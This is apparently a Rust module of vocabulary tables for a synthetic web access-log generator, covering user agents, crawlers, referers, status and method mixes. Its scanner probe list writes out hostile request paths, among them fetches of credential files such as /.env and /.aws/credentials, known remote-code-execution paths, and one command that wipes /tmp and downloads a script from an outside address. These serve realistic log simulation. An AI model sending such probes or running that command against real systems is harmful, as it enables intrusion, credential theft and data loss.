//! The fixed vocabularies of generated traffic: user agents, crawlers, tools, referers,
//! scanner probes, status and method mixes. Values are as real servers log them; none
//! contains a quote or a backslash, so lines need no escaping.

/// Browser user agents with their relative share of visitors.
pub(crate) const BROWSERS: &[(&str, f64)] = &[
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", 30.0),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36", 18.0),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1", 14.0),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", 10.0),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", 7.0),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15", 6.0),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", 6.0),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", 3.0),
    ("Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36", 3.0),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0", 2.0),
    ("Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1", 2.0),
    ("Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0", 1.0),
];

/// A crawler: its user agent, the address blocks it crawls from, its share among crawlers.
#[derive(Debug)]
pub(crate) struct Bot {
    pub ua: &'static str,
    /// /24 prefixes with their trailing dot.
    pub nets: &'static [&'static str],
    pub weight: f64,
}

pub(crate) const BOTS: &[Bot] = &[
    Bot { ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nets: &["66.249.66.", "66.249.68.", "66.249.79."], weight: 30.0 },
    Bot { ua: "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.204 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nets: &["66.249.66.", "66.249.72."], weight: 20.0 },
    Bot { ua: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", nets: &["157.55.39.", "40.77.167.", "207.46.13."], weight: 18.0 },
    Bot { ua: "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", nets: &["5.255.253.", "87.250.224."], weight: 6.0 },
    Bot { ua: "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", nets: &["54.36.148.", "54.36.149."], weight: 8.0 },
    Bot { ua: "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", nets: &["185.191.171."], weight: 6.0 },
    Bot { ua: "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", nets: &["20.191.45."], weight: 2.0 },
    Bot { ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)", nets: &["17.241.219.", "17.241.227."], weight: 4.0 },
    Bot { ua: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)", nets: &["20.171.207."], weight: 4.0 },
    Bot { ua: "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", nets: &["69.171.249.", "173.252.83."], weight: 2.0 },
];

/// What a non-browser tool does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum ToolRole {
    /// Uptime checks: `HEAD /` or `GET /health`.
    Monitor,
    /// Feed readers: `GET /feed.xml`.
    Feed,
    /// Scripts and apps calling the JSON API.
    Api,
}

pub(crate) const TOOLS: &[(&str, ToolRole, f64)] = &[
    ("curl/8.5.0", ToolRole::Api, 14.0),
    ("python-requests/2.32.3", ToolRole::Api, 14.0),
    ("Go-http-client/1.1", ToolRole::Api, 8.0),
    ("okhttp/4.12.0", ToolRole::Api, 10.0),
    ("axios/1.7.7", ToolRole::Api, 6.0),
    ("Apache-HttpClient/4.5.14 (Java/17.0.9)", ToolRole::Api, 4.0),
    ("PostmanRuntime/7.42.0", ToolRole::Api, 2.0),
    ("Wget/1.21.4", ToolRole::Api, 3.0),
    (
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        ToolRole::Monitor,
        10.0,
    ),
    (
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        ToolRole::Monitor,
        4.0,
    ),
    (
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 16 subscribers)",
        ToolRole::Feed,
        5.0,
    ),
    (
        "NetNewsWire (RSS Reader; https://netnewswire.com/)",
        ToolRole::Feed,
        2.0,
    ),
];

/// User agents of vulnerability scanners (`-` is a scanner sending none).
pub(crate) const SCANNER_UAS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)",
    "python-requests/2.25.1",
    "Go-http-client/1.1",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "-",
];

/// Address blocks scanners come from (hosting providers), with their trailing dot.
pub(crate) const SCANNER_NETS: &[&str] = &[
    "45.148.10.",
    "185.224.128.",
    "193.41.206.",
    "80.94.95.",
    "167.94.138.",
    "162.142.125.",
    "104.248.48.",
    "138.68.77.",
    "5.188.62.",
    "91.92.243.",
    "194.165.16.",
    "46.101.1.",
];

/// A path a scanner probes: method, target, and the status it gets (0: drawn from
/// [`SCANNER_STATUS`]).
pub(crate) const PROBES: &[(&str, &str, u16)] = &[
    ("GET", "/wp-login.php", 0),
    ("POST", "/wp-login.php", 0),
    ("POST", "/xmlrpc.php", 0),
    ("GET", "/.env", 0),
    ("GET", "/.env.production", 0),
    ("GET", "/.git/config", 0),
    ("GET", "/.git/HEAD", 0),
    ("GET", "/phpmyadmin/", 0),
    ("GET", "/phpmyadmin/index.php", 0),
    ("GET", "/pma/", 0),
    ("GET", "/myadmin/", 0),
    ("GET", "/admin/config.php", 0),
    ("GET", "/wp-admin/setup-config.php", 0),
    ("GET", "/wp-content/plugins/wp-file-manager/readme.txt", 0),
    ("GET", "/wp-includes/wlwmanifest.xml", 0),
    (
        "GET",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        0,
    ),
    ("GET", "/cgi-bin/luci/;stok=/locale", 0),
    ("GET", "/.aws/credentials", 0),
    ("GET", "/config.json", 0),
    ("GET", "/server-status", 403),
    ("GET", "/actuator/env", 0),
    ("GET", "/actuator/health", 0),
    ("POST", "/boaform/admin/formLogin", 0),
    ("GET", "/HNAP1/", 0),
    ("GET", "/solr/admin/info/system?wt=json", 0),
    ("GET", "/.DS_Store", 0),
    ("GET", "/backup.zip", 0),
    ("GET", "/db.sql", 0),
    ("GET", "/owa/auth/logon.aspx", 0),
    ("GET", "/remote/login", 0),
    ("POST", "/api/jsonws/invoke", 0),
    ("GET", "/?XDEBUG_SESSION_START=phpstorm", 200),
    (
        "GET",
        "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array",
        0,
    ),
    (
        "GET",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://45.148.10.7/bins.sh",
        0,
    ),
    ("GET", "/login.action", 0),
    ("GET", "/console/", 0),
    ("GET", "/manager/html", 0),
    ("GET", "/telescope/requests", 0),
    ("GET", "/_ignition/health-check", 0),
    ("GET", "/debug/default/view?panel=config", 0),
    ("HEAD", "/", 200),
    ("GET", "/robots.txt", 200),
    ("GET", "/sitemap.xml", 200),
    ("PROPFIND", "/", 405),
    ("GET", "/.well-known/security.txt", 0),
];

/// External referers of the first page of a visit (`-`: typed or bookmarked).
pub(crate) const EXTERNAL_REFERERS: &[(&str, f64)] = &[
    ("-", 45.0),
    ("https://www.google.com/", 30.0),
    ("https://www.bing.com/", 4.0),
    ("https://duckduckgo.com/", 3.0),
    ("https://t.co/", 3.0),
    ("https://l.facebook.com/", 3.0),
    ("https://www.reddit.com/", 2.0),
    ("https://news.ycombinator.com/", 1.0),
    ("https://www.linkedin.com/", 1.0),
    (
        "android-app://com.google.android.googlequicksearchbox/",
        1.5,
    ),
    ("https://search.yahoo.com/", 0.5),
    ("https://www.google.de/", 1.0),
];

/// Files browsers ask for that many sites do not have: classic 404s.
pub(crate) const MISSING_FILES: &[&str] = &[
    "/apple-touch-icon.png",
    "/apple-touch-icon-precomposed.png",
    "/apple-touch-icon-120x120.png",
    "/favicon.png",
    "/ads.txt",
    "/.well-known/traffic-advice",
    "/browserconfig.xml",
];

/// What broken links append to a real path (bad copy-paste, old URL schemes).
pub(crate) const STALE_SUFFIXES: &[&str] = &[
    "/amp",
    ".html",
    "-old",
    "/feed/",
    "/index.php",
    "/comments",
    "%20",
    ")",
    "/1",
];

/// Domains of the host names written instead of addresses in the `nasa` format.
pub(crate) const HOST_DOMAINS: &[&str] = &[
    "ix.netcom.com",
    "aol.com",
    "prodigy.com",
    "compuserve.com",
    "earthlink.net",
    "mindspring.com",
    "psi.net",
    "uu.net",
    "att.net",
    "msn.com",
    "ksc.nasa.gov",
    "jsc.nasa.gov",
    "mit.edu",
    "umich.edu",
    "ucla.edu",
    "demon.co.uk",
    "tu-berlin.de",
    "wwa.com",
    "gte.net",
    "ameritech.net",
];

/// Host name stems (`piweba3y.prodigy.com`, `pm13.ix.netcom.com`...).
pub(crate) const HOST_STEMS: &[&str] = &[
    "piweba",
    "pm",
    "ppp",
    "dialup",
    "slip",
    "www-proxy",
    "gateway",
    "ts",
    "port",
    "line",
    "dyn",
    "lab",
    "unix",
    "cs",
    "sun",
    "mac",
    "pc",
];

/// Authenticated users (`%u`), for the few clients behind basic auth.
pub(crate) const USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "jsmith", "mkelly", "admin",
];

/// Words for slugs, search terms and campaign names.
pub(crate) const WORDS: &[&str] = &[
    "alpha",
    "analytics",
    "apple",
    "archive",
    "backup",
    "basics",
    "billing",
    "blue",
    "budget",
    "cache",
    "camera",
    "career",
    "cloud",
    "coffee",
    "compare",
    "config",
    "cookie",
    "data",
    "deploy",
    "design",
    "desk",
    "digital",
    "docker",
    "eco",
    "edge",
    "energy",
    "event",
    "fast",
    "feature",
    "field",
    "garden",
    "gift",
    "green",
    "guide",
    "hardware",
    "health",
    "home",
    "howto",
    "index",
    "install",
    "kafka",
    "kitchen",
    "lamp",
    "laptop",
    "latency",
    "launch",
    "linux",
    "logs",
    "market",
    "metrics",
    "migrate",
    "mobile",
    "modern",
    "monitor",
    "network",
    "news",
    "nginx",
    "office",
    "outdoor",
    "panel",
    "performance",
    "phone",
    "pricing",
    "privacy",
    "pro",
    "python",
    "quick",
    "release",
    "report",
    "review",
    "rust",
    "sale",
    "scale",
    "search",
    "security",
    "server",
    "setup",
    "shoes",
    "smart",
    "spark",
    "sql",
    "start",
    "storage",
    "stream",
    "summer",
    "team",
    "tips",
    "travel",
    "tuning",
    "update",
    "upgrade",
    "video",
    "vintage",
    "watch",
    "web",
    "winter",
    "wireless",
    "yoga",
];

/// Status mixes, by kind of request: `(status, weight)`. On the generated site, 404s come
/// from dead pages, broken links and missing well-known files, not from these mixes.
pub(crate) const PAGE_STATUS: &[(u16, f64)] = &[
    (200, 96.1),
    (304, 1.8),
    (301, 0.9),
    (302, 0.3),
    (500, 0.35),
    (502, 0.1),
    (503, 0.3),
    (504, 0.15),
];
/// Pages given with `--paths`: the same, plus the 404s the site mode gets from broken links.
pub(crate) const GIVEN_PAGE_STATUS: &[(u16, f64)] = &[
    (200, 95.1),
    (304, 1.8),
    (301, 0.9),
    (302, 0.3),
    (404, 1.0),
    (500, 0.35),
    (502, 0.1),
    (503, 0.3),
    (504, 0.15),
];
pub(crate) const ASSET_FIRST_STATUS: &[(u16, f64)] = &[(200, 72.0), (304, 28.0)];
pub(crate) const ASSET_STATUS: &[(u16, f64)] = &[(200, 88.0), (304, 12.0)];
pub(crate) const FORM_POST_STATUS: &[(u16, f64)] = &[
    (302, 55.0),
    (200, 30.0),
    (400, 5.0),
    (401, 5.0),
    (403, 2.0),
    (422, 2.0),
    (500, 1.0),
];
pub(crate) const API_GET_STATUS: &[(u16, f64)] = &[
    (200, 93.0),
    (304, 2.0),
    (400, 1.0),
    (401, 1.5),
    (404, 1.5),
    (429, 0.5),
    (500, 0.3),
    (503, 0.2),
];
pub(crate) const API_WRITE_STATUS: &[(u16, f64)] = &[
    (201, 45.0),
    (200, 25.0),
    (204, 15.0),
    (400, 8.0),
    (401, 3.0),
    (409, 2.0),
    (422, 1.5),
    (500, 0.5),
];
pub(crate) const BOT_STATUS: &[(u16, f64)] = &[(200, 95.5), (301, 3.0), (304, 1.5)];
pub(crate) const HEAD_STATUS: &[(u16, f64)] = &[(200, 98.5), (301, 0.5), (503, 1.0)];
pub(crate) const SCANNER_STATUS: &[(u16, f64)] = &[
    (404, 88.0),
    (403, 6.0),
    (400, 2.0),
    (301, 2.0),
    (401, 1.0),
    (405, 1.0),
];

/// Methods of API tools: `(method, weight)`; writes get [`API_WRITE_STATUS`].
pub(crate) const API_METHODS: &[(&str, f64)] = &[
    ("GET", 62.0),
    ("POST", 22.0),
    ("PUT", 7.0),
    ("PATCH", 3.0),
    ("DELETE", 4.0),
    ("OPTIONS", 2.0),
];

/// Methods of ordinary visitors in weighted-paths mode.
pub(crate) const WEIGHTED_METHODS: &[(&str, f64)] = &[
    ("GET", 94.0),
    ("POST", 4.0),
    ("HEAD", 1.5),
    ("PUT", 0.3),
    ("DELETE", 0.2),
];

/// Body size in bytes of the error and redirect pages a server sends for `status`, when the
/// request's own size does not apply.
pub(crate) fn small_body(status: u16) -> u64 {
    match status {
        204 | 304 => 0,
        301 => 162,
        302 => 138,
        400 => 157,
        401 => 179,
        403 => 153,
        404 => 555,
        405 => 157,
        409 => 96,
        410 => 225,
        422 => 312,
        429 => 169,
        500 => 590,
        502 => 157,
        503 => 197,
        504 => 167,
        _ => 120,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(s: &str) -> bool {
        !s.is_empty()
            && s.bytes()
                .all(|b| (b' '..=b'~').contains(&b) && b != b'"' && b != b'\\')
    }

    #[test]
    fn vocabulary_needs_no_escaping() {
        let texts = BROWSERS
            .iter()
            .map(|b| b.0)
            .chain(BOTS.iter().map(|b| b.ua))
            .chain(TOOLS.iter().map(|t| t.0))
            .chain(SCANNER_UAS.iter().copied())
            .chain(EXTERNAL_REFERERS.iter().map(|r| r.0));
        for t in texts {
            assert!(clean(t), "{t}");
        }
        for (m, p, _) in PROBES {
            assert!(p.starts_with('/') && clean(p) && !p.contains(' '), "{p}");
            assert!(m.bytes().all(|b| b.is_ascii_uppercase()));
        }
        for w in WORDS
            .iter()
            .chain(USERS)
            .chain(HOST_DOMAINS)
            .chain(HOST_STEMS)
        {
            assert!(clean(w) && !w.contains(' '), "{w}");
        }
    }

    #[test]
    fn networks_are_prefixes() {
        for n in BOTS.iter().flat_map(|b| b.nets.iter()).chain(SCANNER_NETS) {
            assert_eq!(n.matches('.').count(), 3, "{n}");
            assert!(n.ends_with('.'));
        }
    }
}
